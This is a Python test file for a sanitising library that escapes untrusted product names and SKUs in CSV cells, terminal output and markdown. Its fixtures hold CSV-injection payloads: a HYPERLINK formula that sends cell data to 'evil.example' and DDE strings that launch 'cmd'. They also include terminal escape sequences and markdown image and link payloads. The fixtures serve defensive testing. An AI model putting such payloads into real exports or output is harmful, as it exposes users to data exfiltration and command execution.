"""Text from outside (SKUs, product and file names) reaches people as text: CSV cells a
spreadsheet shows and never runs, terminals, Slack, markdown and email that render it
as itself."""

from __future__ import annotations

import csv
import io

import pytest

from ipi import safe
from ipi.safe import csv_cell, csv_text

# What a SKU or a product name can carry: a terminal's clear-screen, recolour and retitle.
ANSI = "\x1b[2J\x1b[31mRED\x1b[0m\x1b]0;pwned\x07"


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1",
])
def test_a_formula_is_text(text: str) -> None:
    """The four shapes of CSV injection, and a leading tab or carriage return, get a
    leading ' and read back as that text."""
    assert csv_cell(text) == "'" + text
    [row] = list(csv.reader(io.StringIO(csv_text(["v"], [[text]]), newline="")))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value, cell", [
    (-3.5, -3.5), (12, 12), ("DEMO-0001", "DEMO-0001"), (None, ""), ("a=b", "a=b"),
])
def test_numbers_and_plain_text_are_left_as_they_are(value: object, cell: object) -> None:
    """A negative number is a number, not a formula; text not starting a formula stays."""
    assert csv_cell(value) == cell


def test_text_keeps_no_control_character() -> None:
    """Escape sequences go whole (no "[31m" left behind), NUL, other C0 and C1 controls
    and bidirectional overrides go; tab and line feed stay, CRLF becomes LF."""
    assert safe.text(f"A{ANSI}B\x00C\u202eD\x85E\tF\r\nG\rH") == "AREDBCDE\tF\nGH"


def test_a_terminal_shows_text_only_and_keeps_crlf() -> None:
    """Every CLI print goes through ``Terminal``: a file name with escapes cannot clear or
    retitle the terminal, a lone CR cannot overwrite the line; a CSV's CRLF stays."""
    out = io.StringIO()
    print(f"x{ANSI}y\rz", "a,b\r\n", file=safe.Terminal(out), end="")
    assert out.getvalue() == "xREDyz a,b\r\n"


def test_markdown_renders_no_image_link_or_cell() -> None:
    """An image, a link, emphasis and a ``|`` in a SKU render as themselves in a markdown
    artifact, on one line of a table."""
    got = safe.markdown("![x](http://evil.example/p.png) [click](http://evil.example) "
                        "*a*|b\nc")
    assert got == ("\\!\\[x\\]\\(http://evil.example/p.png\\) \\[click\\]"
                   "\\(http://evil.example\\) \\*a\\*\\|b c")
